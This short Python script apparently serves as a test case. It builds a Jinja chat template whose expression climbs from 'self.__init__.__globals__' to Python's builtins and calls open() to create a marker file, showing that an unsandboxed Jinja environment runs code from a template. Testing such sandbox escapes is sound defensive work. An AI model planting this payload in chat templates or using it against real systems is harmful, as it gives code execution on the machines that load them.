"""A chat template that climbs from a text to Python's builtins and runs code. A plain Jinja environment runs it."""

from pathlib import Path

from common import run


def build(folder: Path, marker: Path) -> Path:
    folder.mkdir(parents=True, exist_ok=True)
    template = folder / "chat_template.jinja"
    climb = "self.__init__.__globals__.__builtins__"
    template.write_text(f"{{{{ {climb}.open({str(marker)!r}, 'w') }}}}")
    return template


if __name__ == "__main__":
    run(build)
